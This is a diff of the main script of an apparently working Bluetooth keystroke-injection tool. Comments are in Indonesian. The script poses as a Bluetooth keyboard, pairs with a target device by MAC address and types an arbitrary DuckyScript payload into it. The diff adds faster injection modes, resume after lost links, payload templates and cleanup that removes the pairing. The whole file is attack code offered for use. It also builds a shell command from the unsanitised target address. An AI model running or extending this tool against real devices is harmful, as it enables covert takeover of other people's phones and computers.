@@ -1,14 +1,33 @@
-import binascii, bluetooth, sys, time, datetime, logging, argparse
-from multiprocessing import Process
+import asyncio, sys, time, logging, argparse
+import multiprocessing
+from threading import Thread
 from pydbus import SystemBus
-from enum import Enum
 import subprocess
 import os
 
-from utils.menu_functions import (read_duckyscript, run, restart_bluetooth_daemon)
+from utils.menu_functions import (run, restart_bluetooth_daemon, stream_duckyscript)
 from utils.register_device import register_hid_profile, agent_loop
+from utils.payload_cache import load_compiled_payload
+from utils.async_engine import HIDEngine, LinkLost
+from utils.duckyscript_compiler import (elide_releases, REPORT_MODES, iter_compiled, set_keystroke_planning, set_report_mode,
+                                        start_block, uses_stringfile, verify_encoder)
+from utils.hid_descriptor import DescriptorMismatch
+from utils.duckyscript_vm import DuckyScriptError, uses_control_flow
+from utils.keyboard_layouts import LAYOUTS
+from utils.macros import DEFAULT_OS, TARGET_OSES, select_target_os
+from utils.payload_analyzer import analyze_payload, print_analysis
+from utils.payload_template import substitute
 
 child_processes = []
+# Proses helper (HID profile, pairing agent) di-fork dari forkserver, bukan dari proses ini: saat fork,
+# thread kompilasi atau event loop bisa sedang memegang lock logging/import dan child ikut terkunci.
+# Setiap child menjalankan ulang CLI.py sebagai __mp_main__ sebelum target berjalan; impor di atas
+# (numpy, tabel encoder, ~0.2 s) di-preload di forkserver supaya itu hanya butuh ~20 ms, jauh di bawah
+# jeda 0.25 s PairingAgent. '__main__' sendiri diabaikan oleh preload forkserver, jadi tidak dipakai
+helper_processes = multiprocessing.get_context('forkserver')
+helper_processes.set_forkserver_preload(['asyncio', 'pydbus', 'utils.menu_functions', 'utils.register_device',
+                                         'utils.payload_cache', 'utils.async_engine', 'utils.duckyscript_vm',
+                                         'utils.payload_analyzer', 'utils.payload_template'])
 
 # ANSI escape sequences untuk warna 
 class AnsiColorCode:
@@ -123,7 +142,7 @@ class PairingAgent:
     def __enter__(self):
         try:
             log.debug("Starting agent process...")
-            self.agent = Process(target=agent_loop, args=(self.target_path,))
+            self.agent = helper_processes.Process(target=agent_loop, args=(self.target_path,))
             self.agent.start()
             time.sleep(0.25)
             log.debug("Agent process started.")
@@ -142,462 +161,55 @@ class PairingAgent:
             log.error(f"Error terminating agent process: {e}")
             raise
 
-class L2CAPConnectionManager:
-    def __init__(self, target_address):
-        self.target_address = target_address
-        self.clients = {}
-
-    def create_connection(self, port):
-        client = L2CAPClient(self.target_address, port)
-        self.clients[port] = client
-        return client
-
-    def connect_all(self):
-        try:
-            return sum(client.connect() for client in self.clients.values())
-        except ConnectionFailureException as e:
-            log.error(f"Connection failure: {e}")
-            raise
-
-    def close_all(self):
-        for client in self.clients.values():
-            client.close()
-
 # menangani proses reconnection
 class ReconnectionRequiredException(Exception):
-    def __init__(self, message, current_line=0, current_position=0):
+    def __init__(self, message, current_report=0, current_offset=None, current_file_offset=0):
         super().__init__(message)
-        time.sleep(2)
-        self.current_line = current_line
-        self.current_position = current_position
-
-class L2CAPClient:
-    def __init__(self, addr, port):
-        self.addr = addr
-        self.port = port
-        self.connected = False
-        self.sock = None
-
-    def encode_keyboard_input(*args):
-      keycodes = []
-      flags = 0
-      for a in args:
-        if isinstance(a, Key_Codes):
-          keycodes.append(a.value)
-        elif isinstance(a, Modifier_Codes):
-          flags |= a.value
-      assert(len(keycodes) <= 7)
-      keycodes += [0] * (7 - len(keycodes))
-      report = bytes([0xa1, 0x01, flags, 0x00] + keycodes)
-      return report
-
-    def close(self):
-        if self.connected:
-            self.sock.close()
-        self.connected = False
-        self.sock = None
-
-    def reconnect(self):
-        # Memberi Notifikasi pada proses reconnection
-        raise ReconnectionRequiredException("Reconnection required")
-
-    def send(self, data):
-        if not self.connected:
-            log.error("[TX] Not connected")
-            self.reconnect()
-
-        # Untuk mendapatkan timestamp
-        timestamp = datetime.datetime.now().strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
-
-        # Untuk menambahkan timestamp ke dalam pesan log 
-        log.debug(f"[{timestamp}][TX-{self.port}] Attempting to send data: {binascii.hexlify(data).decode()}")
-        try:
-            self.attempt_send(data)
-            log.debug(f"[TX-{self.port}] Data sent successfully")
-        except bluetooth.btcommon.BluetoothError as ex:
-            log.error(f"[TX-{self.port}] Bluetooth error: {ex}")
-            self.reconnect()
-            self.send(data)  # melakukan percobaan pengiriman kembali
-        except Exception as ex:
-            log.error(f"[TX-{self.port}] Exception: {ex}")
-            raise
-
-    def attempt_send(self, data, timeout=0.5):
-        start = time.time()
-        while time.time() - start < timeout:
-            try:
-                self.sock.send(data)
-                return
-            except bluetooth.btcommon.BluetoothError as ex:
-                if ex.errno != 11:  # no data available
-                    raise
-                time.sleep(0.001)
-
-    def recv(self, timeout=0):
-        start = time.time()
-        while True:
-            raw = None
-            if not self.connected:
-                return None
-            if self.sock is None:
-                return None
-            try:
-                raw = self.sock.recv(64)
-                if len(raw) == 0:
-                    self.connected = False
-                    return None
-                log.debug(f"[RX-{self.port}] Received data: {binascii.hexlify(raw).decode()}")
-            except bluetooth.btcommon.BluetoothError as ex:
-                if ex.errno != 11:  # no data available
-                    raise ex
-                else:
-                    if (time.time() - start) < timeout:
-                        continue
-            return raw
-
-    def connect(self, timeout=None):
-        log.debug(f"Attempting to connect to {self.addr} on port {self.port}")
-        log.info("connecting to %s on port %d" % (self.addr, self.port))
-        sock = bluetooth.BluetoothSocket(bluetooth.L2CAP)
-        sock.settimeout(timeout)
-        try:
-            sock.connect((self.addr, self.port))
-            sock.setblocking(0)
-            self.sock = sock
-            self.connected = True
-            log.debug("SUCCESS! connected on port %d" % self.port)
-        except Exception as ex:
-            # mendefinisikan warna di logging
-            red = "\033[91m"
-            blue = "\033[94m"
-            reset = "\033[0m"
-
-            error = True
-            self.connected = False
-            log.error("ERROR connecting on port %d: %s" % (self.port, ex))
-            raise ConnectionFailureException(f"Connection failure on port {self.port}")
-            if (error == True & self.port == 14):
-                print("{reset}[{red}!{reset}] {red}CRITICAL ERROR{reset}: {reset}Attempted Connection to {red}{target_address} {reset}was {red}denied{reset}.")
-                return self.connected
-
-
-
-        return self.connected
-
-    def send_keyboard_report(self, *args):
-        self.send(self.encode_keyboard_input(*args))
-
-    def send_keypress(self, *args, delay=0.0001):
-        if args:
-            log.debug(f"Attempting to send... {args}")
-            self.send(self.encode_keyboard_input(*args))
-            time.sleep(delay)
-            # Kirim laporan kosong
-            self.send(self.encode_keyboard_input())
-            time.sleep(delay)
-        else:
-            # Jika tidak ada argumen, kirimkan laporan kosong
-            self.send(self.encode_keyboard_input())
-        time.sleep(delay)
-        return True  # Tunjukkan bahwa pengiriman berhasil
-
-    def send_keyboard_combination(self, modifier, key, delay=0.004):
-        # Tekan kombinasi tombol
-        press_report = self.encode_keyboard_input(modifier, key)
-        self.send(press_report)
-        time.sleep(delay)  # Delay to simulate key press
-    
-        # Release the combination
-        release_report = self.encode_keyboard_input()
-        self.send(release_report)
-        time.sleep(delay)
-
-def process_duckyscript(client, duckyscript, current_line=0, current_position=0):
-    client.send_keypress('')  # Send empty report to ensure a clean start
-    time.sleep(0.5)
-
-    shift_required_characters = "!@#$%^&*()_+{}|:\"<>?ABCDEFGHIJKLMNOPQRSTUVWXYZ"
-
+        self.current_report = current_report
+        # Hanya dipakai mode streaming: byte offset baris yang sedang dikirim
+        self.current_offset = current_offset
+        # dan byte offset potongan STRINGFILE yang sedang dikirim di baris itu
+        self.current_file_offset = current_file_offset
+
+async def process_duckyscript(engine, program, current_report=0, elide=False):
+    engine.report_index = current_report
+    # Program VM (WHILE/IF) tidak punya jumlah report yang tetap
+    engine.total = len(program) if hasattr(program, '__len__') else None
+    entries = program.iter_from(current_report)
+    if elide:
+        entries = elide_releases(entries)
     try:
-        for line_number, line in enumerate(duckyscript):
-            if line_number < current_line:
-                continue  # Skip already processed lines
-
-            if line_number == current_line and current_position > 0:
-                line = line[current_position:]  # Resume from the last position within the current line
-            else:
-                current_position = 0  # Reset position for new line
-
-            line = line.strip()
-            log.info(f"Processing {line}")
-            if not line or line.startswith("REM"):
-                continue
-            if line.startswith("TAB"):
-                client.send_keypress(Key_Codes.TAB)
-            if line.startswith("PRIVATE_BROWSER"):
-                report = bytes([0xa1, 0x01, Modifier_Codes.CTRL.value | Modifier_Codes.SHIFT.value, 0x00, Key_Codes.n.value, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00])
-                client.send(report)
-                # Don't forget to send a release report afterwards
-                release_report = bytes([0xa1, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00])
-                client.send(release_report)
-            if line.startswith("VOLUME_UP"):
-                # Send GUI + V
-                hid_report_gui_v = bytes.fromhex("a1010800190000000000")
-                client.send(hid_report_gui_v)
-                time.sleep(0.1)  # Short delay
-
-                client.send_keypress(Key_Codes.TAB)
-
-                # Press UP while holding GUI + V
-                hid_report_up = bytes.fromhex("a1010800195700000000")
-                client.send(hid_report_up)
-                time.sleep(0.1)  # Short delayF
-
-                # Release all keys
-                hid_report_release = bytes.fromhex("a1010000000000000000")
-                client.send(hid_report_release)
-            if line.startswith("DELAY"):
-                try:
-                    # Extract delay time from the line
-                    delay_time = int(line.split()[1])  # Assumes delay time is in milliseconds
-                    time.sleep(delay_time / 1000)  # Convert milliseconds to seconds for sleep
-                except ValueError:
-                    log.error(f"Invalid DELAY format in line: {line}")
-                except IndexError:
-                    log.error(f"DELAY command requires a time parameter in line: {line}")
-                continue  # Move to the next line after the delay
-            if line.startswith("STRING"):
-                text = line[7:]
-                for char_position, char in enumerate(text, start=1):
-                    log.notice(f"Attempting to send letter: {char}")
-                    # Process each character
-                    try:
-                        if char.isdigit():
-                            key_code = getattr(Key_Codes, f"_{char}")
-                            client.send_keypress(key_code)
-                        elif char == " ":
-                            client.send_keypress(Key_Codes.SPACE)
-                        elif char == "[":
-                            client.send_keypress(Key_Codes.LEFTBRACE)
-                        elif char == "]":
-                            client.send_keypress(Key_Codes.RIGHTBRACE)
-                        elif char == ";":
-                            client.send_keypress(Key_Codes.SEMICOLON)
-                        elif char == "'":
-                            client.send_keypress(Key_Codes.QUOTE)
-                        elif char == "/":
-                            client.send_keypress(Key_Codes.SLASH)
-                        elif char == ".":
-                            client.send_keypress(Key_Codes.DOT)
-                        elif char == ",":
-                            client.send_keypress(Key_Codes.COMMA)
-                        elif char == "|":
-                            client.send_keypress(Key_Codes.PIPE)
-                        elif char == "-":
-                            client.send_keypress(Key_Codes.MINUS)
-                        elif char == "=":
-                            client.send_keypress(Key_Codes.EQUAL)
-                        elif char in shift_required_characters:
-                            key_code_str = char_to_key_code(char)
-                            if key_code_str:
-                                key_code = getattr(Key_Codes, key_code_str)
-                                client.send_keyboard_combination(Modifier_Codes.SHIFT, key_code)
-                            else:
-                                log.warning(f"Unsupported character '{char}' in Duckyscript")
-                        elif char.isalpha():
-                            key_code = getattr(Key_Codes, char.lower())
-                            if char.isupper():
-                                client.send_keyboard_combination(Modifier_Codes.SHIFT, key_code)
-                            else:
-                                client.send_keypress(key_code)
-                        else:
-                            key_code = char_to_key_code(char)
-                            if key_code:
-                                client.send_keypress(key_code)
-                            else:
-                                log.warning(f"Unsupported character '{char}' in Duckyscript")
-                                
-                        current_position = char_position
-
-                    except AttributeError as e:
-                        log.warning(f"Attribute error: {e} - Unsupported character '{char}' in Duckyscript")
-            
-            elif any(mod in line for mod in ["SHIFT", "ALT", "CTRL", "GUI", "COMMAND", "WINDOWS"]):
-                # Process modifier key combinations
-                components = line.split()
-                if len(components) == 2:
-                    modifier, key = components
-                    try:
-                        # Convert to appropriate enums
-                        modifier_enum = getattr(Modifier_Codes, modifier.upper())
-                        key_enum = getattr(Key_Codes, key.lower())
-                        client.send_keyboard_combination(modifier_enum, key_enum)
-                        log.notice(f"Sent combination: {line}")
-                    except AttributeError:
-                        log.warning(f"Unsupported combination: {line}")
-                else:
-                    log.warning(f"Invalid combination format: {line}")
-            elif line.startswith("ENTER"):
-                client.send_keypress(Key_Codes.ENTER)
-            # After processing each line, reset current_position to 0 and increment current_line
-            current_position = 0  
-            current_line += 1  
-
-    except ReconnectionRequiredException:
-        raise ReconnectionRequiredException("Reconnection required", current_line, current_position)
+        await engine.send_entries(entries)
+        await engine.drain()
+    except LinkLost:
+        raise ReconnectionRequiredException("Reconnection required", engine.report_index)
     except Exception as e:
         log.error(f"Error during script execution: {e}")
 
-def char_to_key_code(char):
-    # Mapping for special characters that always require SHIFT
-    shift_char_map = {
-        '!': 'EXCLAMATION_MARK',
-        '@': 'AT_SYMBOL',
-        '#': 'HASHTAG',
-        '$': 'DOLLAR',
-        '%': 'PERCENT_SYMBOL',
-        '^': 'CARET_SYMBOL',
-        '&': 'AMPERSAND_SYMBOL',
-        '*': 'ASTERISK_SYMBOL',
-        '(': 'OPEN_PARENTHESIS',
-        ')': 'CLOSE_PARENTHESIS',
-        '_': 'UNDERSCORE_SYMBOL',
-        '+': 'KEYPADPLUS',
-	    '{': 'LEFTBRACE',
-	    '}': 'RIGHTBRACE',
-	    ':': 'SEMICOLON',
-	    '\\': 'BACKSLASH',
-	    '"': 'QUOTE',
-        '<': 'COMMA',
-        '>': 'DOT',
-	    '?': 'QUESTIONMARK',
-	    'A': 'a',
-	    'B': 'b',
-	    'C': 'c',
-	    'D': 'd',
-	    'E': 'e',
-	    'F': 'f',
-	    'G': 'g',
-	    'H': 'h',
-	    'I': 'i',
-	    'J': 'j',
-	    'K': 'k',
-	    'L': 'l',
-	    'M': 'm',
-	    'N': 'n',
-	    'O': 'o',
-	    'P': 'p',
-	    'Q': 'q',
-	    'R': 'r',
-	    'S': 's',
-	    'T': 't',
-	    'U': 'u',
-	    'V': 'v',
-	    'W': 'w',
-	    'X': 'x',
-	    'Y': 'y',
-	    'Z': 'z',
-	
-    }
-    return shift_char_map.get(char)
-
-# Key codes for modifier keys
-class Modifier_Codes(Enum):
-    CTRL = 0x01
-    RIGHTCTRL = 0x10
-
-    SHIFT = 0x02
-    RIGHTSHIFT = 0x20
-
-    ALT = 0x04
-    RIGHTALT = 0x40
-
-    GUI = 0x08
-    WINDOWS = 0x08
-    COMMAND = 0x08
-    RIGHTGUI = 0x80
-
-class Key_Codes(Enum):
-    NONE = 0x00
-    a = 0x04
-    b = 0x05
-    c = 0x06
-    d = 0x07
-    e = 0x08
-    f = 0x09
-    g = 0x0a
-    h = 0x0b
-    i = 0x0c
-    j = 0x0d
-    k = 0x0e
-    l = 0x0f
-    m = 0x10
-    n = 0x11
-    o = 0x12
-    p = 0x13
-    q = 0x14
-    r = 0x15
-    s = 0x16
-    t = 0x17
-    u = 0x18
-    v = 0x19
-    w = 0x1a
-    x = 0x1b
-    y = 0x1c
-    z = 0x1d
-    _1 = 0x1e
-    _2 = 0x1f
-    _3 = 0x20
-    _4 = 0x21
-    _5 = 0x22
-    _6 = 0x23
-    _7 = 0x24
-    _8 = 0x25
-    _9 = 0x26
-    _0 = 0x27
-    ENTER = 0x28
-    ESCAPE = 0x29
-    BACKSPACE = 0x2a
-    TAB = 0x2b
-    SPACE = 0x2c
-    MINUS = 0x2d
-    EQUAL = 0x2e
-    LEFTBRACE = 0x2f
-    RIGHTBRACE = 0x30
-    CAPSLOCK = 0x39
-    VOLUME_UP = 0x3b
-    VOLUME_DOWN = 0xee
-    SEMICOLON = 0x33
-    COMMA = 0x36
-    PERIOD = 0x37
-    SLASH = 0x38
-    PIPE = 0x31
-    BACKSLASH = 0x31
-    GRAVE = 0x35
-    APOSTROPHE = 0x34
-    LEFT_BRACKET = 0x2f
-    RIGHT_BRACKET = 0x30
-    DOT = 0x37
-    RIGHT = 0x4f
-    LEFT = 0x50
-    DOWN = 0x51
-    UP = 0x52
-
-    # SHIFT KEY MAPPING
-    EXCLAMATION_MARK = 0x1e
-    AT_SYMBOL = 0x1f
-    HASHTAG = 0x20
-    DOLLAR = 0x21
-    PERCENT_SYMBOL = 0x22
-    CARET_SYMBOL = 0x23
-    AMPERSAND_SYMBOL = 0x24
-    ASTERISK_SYMBOL = 0x25
-    OPEN_PARENTHESIS = 0x26
-    CLOSE_PARENTHESIS = 0x27
-    UNDERSCORE_SYMBOL = 0x2d
-    QUOTE = 0x34
-    QUESTIONMARK = 0x38
-    KEYPADPLUS = 0x57
+async def process_duckyscript_stream(engine, filename, current_offset=0, current_report=0, layout='us', current_file_offset=0,
+                                     variables=None, elide=False):
+    # Kompilasi baris demi baris dan langsung dimasukkan ke ring; ring hanya dikosongkan di akhir.
+    # Setiap report membawa posisinya (byte offset baris, offset di STRINGFILE, indeks report di blok),
+    # jadi resume mulai dari report pertama yang belum terkirim meski producer sudah beberapa baris di depan
+    engine.report_index = (current_offset, current_file_offset, current_report)
+    try:
+        if current_offset == 0 and current_file_offset == 0 and current_report == 0:
+            # Blok awal dikirim tanpa posisi: jika link putus di sini, resume mengulang blok awal dari nol,
+            # bukan melewatkannya dan memotong baris pertama
+            await engine.send_entries((None, report, delay) for _, report, delay in start_block().iter_from(0))
+        lines = ((offset, substitute(line, variables or {})) for offset, line in stream_duckyscript(filename, current_offset))
+        for offset, file_offset, block in iter_compiled(lines, layout, current_file_offset):
+            entries = (((offset, file_offset, index), report, delay) for index, report, delay in block.iter_from(current_report))
+            if elide:
+                entries = elide_releases(entries)
+            await engine.send_entries(entries)
+            current_report = 0
+        await engine.drain()
+    except LinkLost:
+        offset, file_offset, report = engine.report_index
+        raise ReconnectionRequiredException("Reconnection required", report, offset, file_offset)
+    except Exception as e:
+        log.error(f"Error during script execution: {e}")
 
 def terminate_child_processes():
     for proc in child_processes:
@@ -606,9 +218,41 @@ def terminate_child_processes():
             proc.join()
     
 
-def setup_bluetooth(target_address, adapter_id):
+class PayloadPreparer(Thread):
+    # Kompilasi dan validasi payload berjalan di thread ini selama adapter dan pairing disiapkan
+    def __init__(self, prepare):
+        super().__init__(daemon=True)
+        self.prepare = prepare
+        self.program = None
+        self.error = None
+        self.elapsed = None
+        self.waited = None
+
+    def run(self):
+        start = time.perf_counter()
+        try:
+            self.program = self.prepare()
+        except Exception as e:
+            self.error = e
+        self.elapsed = time.perf_counter() - start
+
+    def failed(self):
+        return not self.is_alive() and self.error is not None
+
+    def result(self):
+        if self.waited is None:
+            start = time.perf_counter()
+            self.join()
+            self.waited = time.perf_counter() - start
+            hidden = max(self.elapsed - self.waited, 0.0)
+            log.info(f"Payload prepared in {self.elapsed:.2f}s, {hidden:.2f}s of it hidden behind Bluetooth setup")
+        if self.error is not None:
+            raise self.error
+        return self.program
+
+def setup_bluetooth(target_address, adapter_id, report_mode='boot'):
     restart_bluetooth_daemon()
-    profile_proc = Process(target=register_hid_profile, args=(adapter_id, target_address))
+    profile_proc = helper_processes.Process(target=register_hid_profile, args=(adapter_id, target_address, report_mode))
     profile_proc.start()
     child_processes.append(profile_proc)
     adapter = Adapter(adapter_id)
@@ -625,18 +269,6 @@ def initialize_pairing(agent_iface, target_address):
         log.error(f"Failed to initialize pairing agent: {e}")
         raise ConnectionFailureException("Pairing agent initialization failed")
 
-def establish_connections(connection_manager):
-    if not connection_manager.connect_all():
-        raise ConnectionFailureException("Failed to connect to all required ports")
-
-def setup_and_connect(connection_manager, target_address, adapter_id):
-    connection_manager.create_connection(1)   # SDP
-    connection_manager.create_connection(17)  # HID Control
-    connection_manager.create_connection(19)  # HID Interrupt
-    initialize_pairing(adapter_id, target_address)
-    establish_connections(connection_manager)
-    return connection_manager.clients[19]
-
 def troubleshoot_bluetooth():
     # Added this function to troubleshoot common issues before access to the application is granted
 
@@ -678,15 +310,33 @@ def parse_args():
         epilog='Contoh: python3 CLI.py --adapter hci0 --target XX:XX:XX:XX:XX:XX --payload payloads/test.duc'
     )
     parser.add_argument('--adapter', default='hci0', help='Bluetooth adapter to use')
-    parser.add_argument('--target', required=True, help='MAC address of the target device')
+    parser.add_argument('--target', help='MAC address of the target device')
     parser.add_argument('--payload', required=True, help='Path to the duckyscript payload')
+    parser.add_argument('--layout', default='us', choices=sorted(LAYOUTS), help='Keyboard layout of the target device')
+    parser.add_argument('--os', default=DEFAULT_OS, choices=TARGET_OSES, help='Target operating system, selects the shortcut macros (PRIVATE_BROWSER, VOLUME_UP, ...)')
+    parser.add_argument('--dry-run', action='store_true', help='Compile and analyze the payload without touching Bluetooth')
+    parser.add_argument('--plan-keystrokes', action='store_true', help='Hold Shift across runs and use Caps Lock where it needs fewer reports and less delay')
+    parser.add_argument('--report-mode', default='boot', choices=REPORT_MODES, help='Keyboard report: boot (one key per report) or nkro (bitmap report, several keys of a STRING per packet; overrides --plan-keystrokes for STRING)')
+    parser.add_argument('--elide-releases', action='store_true', help='Skip the release report between different keys (about half the packets for plain text)')
+    parser.add_argument('--stream', action='store_true', help='Compile and send the payload line by line (for very large payloads)')
+    parser.add_argument('--var', action='append', default=[], metavar='NAME=VALUE', help='Value for a {{NAME}} placeholder in a payload template (repeatable)')
 
     args = parser.parse_args()
 
+    if not args.target and not args.dry_run:
+        parser.error("--target is required unless --dry-run is given")
+
     if not os.path.exists(args.payload):
         print(f"❌ Payload not found: {args.payload}")
         sys.exit(1)
 
+    args.variables = {}
+    for var in args.var:
+        name, separator, value = var.partition("=")
+        if not separator or not name:
+            parser.error(f"--var expects NAME=VALUE, got '{var}'")
+        args.variables[name] = value
+
     return args
 
 
@@ -700,6 +350,23 @@ def main():
     print(f"   ➤ Target  : {args.target}")
     print(f"   ➤ Payload : {args.payload}")
 
+    select_target_os(args.os)
+    set_keystroke_planning(args.plan_keystrokes)
+    set_report_mode(args.report_mode)
+    try:
+        verify_encoder(args.report_mode)
+    except DescriptorMismatch as e:
+        # Report yang dibaca berbeda oleh host lebih baik ketahuan sebelum pairing
+        print(f"❌ HID report self-check failed: {e}")
+        sys.exit(1)
+
+    if args.dry_run:
+        try:
+            print_analysis(args.payload, analyze_payload(args.payload, args.layout, args.variables))
+        except DuckyScriptError as e:
+            log.error(f"Invalid payload: {e}")
+        return
+
     if not args.target or not args.payload:
         print("❌ ERROR: --target dan --payload harus disediakan saat dijalankan dari GUI.")
         sys.exit(1)
@@ -711,42 +378,86 @@ def main():
     print(f"       ➤ Target   : {target_address}")
     print(f"       ➤ Payload  : {selected_payload}")
 
-    duckyscript = read_duckyscript(selected_payload)
-    if not duckyscript:
-        log.info("Payload file not found. Exiting.")
+    payload_lines = lambda: (line for _, line in stream_duckyscript(selected_payload))
+
+    def prepare_payload():
+        if not args.stream and uses_stringfile(payload_lines()) and not uses_control_flow(payload_lines()):
+            # STRINGFILE dikirim per potongan file supaya file besar tidak dimuat ke memori
+            log.info("Payload uses STRINGFILE, sending it in streaming mode")
+            args.stream = True
+        if args.stream:
+            # Slot template yang belum diisi harus ketahuan sebelum payload dikirim
+            for line in payload_lines():
+                substitute(line, args.variables)
+            return None
+        program = load_compiled_payload(selected_payload, args.layout, variables=args.variables)
+        if not program:
+            raise DuckyScriptError(f"Payload file {selected_payload} not found")
+        return program
+
+    preparer = PayloadPreparer(prepare_payload)
+    preparer.start()
+
+    asyncio.run(execute_payload(args, target_address, adapter_id, selected_payload, preparer))
+
+async def execute_payload(args, target_address, adapter_id, selected_payload, preparer):
+    # Semua langkah yang menunggu (D-Bus, hciconfig, pairing agent, kompilasi) dijalankan di thread
+    # executor, jadi event loop tetap bebas untuk kanal HID
+    adapter = await asyncio.to_thread(setup_bluetooth, target_address, adapter_id, args.report_mode)
+    await asyncio.to_thread(adapter.enable_ssp)
+    if preparer.failed():
+        # Payload tidak valid: berhenti sebelum pairing dengan target
+        log.error(f"Invalid payload: {preparer.error}")
         return
 
-    adapter = setup_bluetooth(target_address, adapter_id)
-    adapter.enable_ssp()
-
-    current_line = 0
-    current_position = 0
-    connection_manager = L2CAPConnectionManager(target_address)
+    current_report = 0
+    current_offset = 0
+    current_file_offset = 0
+    engine = HIDEngine(target_address, args.report_mode)
 
     while True:
         try:
-            hid_interrupt_client = setup_and_connect(connection_manager, target_address, adapter_id)
-            time.sleep(3)  # Kasih waktu pairing settle
+            await asyncio.to_thread(initialize_pairing, adapter_id, target_address)
+            await engine.connect()
+            # Mulai begitu host mengirim status LED (keyboard sudah dikonfigurasi), paling lama 3 detik
+            if not await engine.wait_configured():
+                log.debug("No LED report from the host, starting after the settle timeout")
+            program = await asyncio.to_thread(preparer.result)
             log.info("✅ Connection established. Starting payload execution...")
-            process_duckyscript(hid_interrupt_client, duckyscript, current_line, current_position)
+            caps_lock_released = await engine.release_caps_lock()
+            if args.stream:
+                await process_duckyscript_stream(engine, selected_payload, current_offset, current_report, args.layout,
+                                                 current_file_offset, args.variables, args.elide_releases)
+            else:
+                await process_duckyscript(engine, program, current_report, args.elide_releases)
+            if caps_lock_released:
+                await engine.tap_caps_lock()
             log.info("✅ Payload sent successfully.")
-            time.sleep(2)
+            await asyncio.sleep(2)
             break
 
+        except DuckyScriptError as e:
+            log.error(f"Invalid payload: {e}")
+            return
+
         except ReconnectionRequiredException as e:
-            current_line = e.current_line
-            current_position = e.current_position
-            connection_manager.close_all()
-            time.sleep(2)
+            current_report = e.current_report
+            if e.current_offset is not None:
+                current_offset = e.current_offset
+                current_file_offset = e.current_file_offset
+            await engine.close()
+            await asyncio.sleep(2)
 
         except Exception as e:
             log.error(f"Unhandled exception: {e}")
             return
 
         finally:
+           await engine.close()
            try:
                 command = f'echo -e "remove {target_address}\n" | bluetoothctl'
-                subprocess.run(command, shell=True)
+                proc = await asyncio.create_subprocess_shell(command)
+                await proc.wait()
                 log.info(f"✅ Successfully removed device: {target_address}")
            except Exception as e:
                 log.warning(f"⚠️ Failed to remove device: {e}")
@@ -756,7 +467,8 @@ if __name__ == "__main__":
     setup_logging()
     log = logging.getLogger(__name__)
     try:
-        if troubleshoot_bluetooth():
+        # Dry run tidak menyentuh Bluetooth, jadi pemeriksaan adapter dilewati
+        if '--dry-run' in sys.argv or troubleshoot_bluetooth():
             main()
         else:
             sys.exit(0)